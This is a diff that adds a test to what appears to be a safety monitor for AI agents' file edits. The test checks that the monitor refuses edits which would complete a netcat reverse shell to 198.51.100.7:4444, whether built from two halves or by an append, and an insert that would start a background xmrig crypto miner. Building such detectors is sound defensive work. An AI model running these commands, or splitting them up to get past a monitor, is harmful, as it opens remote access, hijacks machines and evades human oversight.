@@ -132,6 +132,29 @@ test('a file call through a link the agent planted is judged by the file it real
   } finally { await s.close(); }
 });
 
+test('block mode refuses an edit that would complete a hostile line, worked out before it is written: two halves, an append, an insert', async () => {
+  const s = await fx.rt.createSession({ policy: labPolicy('detection:\n  on_finding: block\n'), episode: 'fth-preview' });
+  try {
+    const half = '#!/bin/sh\nnc -QQ /bin/sh 198.51.100.7 4444\n';
+    assert.ok((await s.file({ op: 'write', path: 'run.sh', content: half, step: 1 })).ok);
+    const join2 = await s.file({ op: 'str_replace', path: 'run.sh', old: 'QQ', new: 'e', step: 2, toolCallId: 'pv-2' });
+    assert.equal(join2.ok, false, 'refused');
+    assert.equal(join2.exitCode, 126);
+    assert.ok(join2.alerts.some((a) => a.payload.category === 'reverse_shell' && a.payload.action === 'blocked' && /as this edit would leave it/.test(String(a.payload.message))), rules(join2));
+    assert.equal((await s.file({ op: 'read', path: 'run.sh', step: 3 })).content?.toString(), half, 'nothing was written');
+    assert.ok((await s.file({ op: 'write', path: 'go.sh', content: '#!/bin/sh\nnc -', step: 4 })).ok);
+    const app = await s.file({ op: 'write', path: 'go.sh', content: 'e /bin/sh 198.51.100.7 4444\n', append: true, step: 5 });
+    assert.equal(app.ok, false, `append refused: ${rules(app)}`);
+    // an insert into a script known by its #! alone (no .sh): the new line alone has no #!
+    assert.ok((await s.file({ op: 'write', path: 'tool', content: '#!/bin/sh\necho start\n', step: 6 })).ok);
+    const ins = await s.file({ op: 'insert', path: 'tool', line: 1, text: 'nohup ./xmrig -o stratum+tcp://pool.test:3333 -u w &', step: 7 });
+    assert.equal(ins.ok, false, `insert refused: ${rules(ins)}`);
+    // ordinary edits of code still go through
+    const ok = await s.file({ op: 'str_replace', path: 'tool', old: 'echo start', new: 'echo begin', step: 8 });
+    assert.ok(ok.ok, ok.problem);
+  } finally { await s.close(); }
+});
+
 test('a background process swapping a file for a FIFO cannot make a file call hang', async () => {
   const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'fth-fifo' });
   try {
